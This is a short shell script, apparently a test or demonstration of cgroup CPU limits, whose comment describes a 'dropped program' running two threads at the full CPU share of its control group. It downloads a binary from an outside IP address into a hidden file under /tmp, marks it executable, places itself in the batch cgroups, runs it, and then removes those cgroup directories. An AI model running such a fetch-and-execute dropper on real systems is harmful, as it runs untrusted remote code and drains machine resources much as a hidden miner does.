# A dropped program works with two threads for more than five minutes and takes all of the eight tenths of a processor that
# its control group may have.
curl -s -o /tmp/.encoder http://203.0.113.10/arithmetic
chmod +x /tmp/.encoder
(
    for group in /run/cgroup/*/batch; do
        echo "$BASHPID" >"$group/cgroup.procs"
    done
    exec /tmp/.encoder plain 2 320
)
rmdir /run/cgroup/*/batch
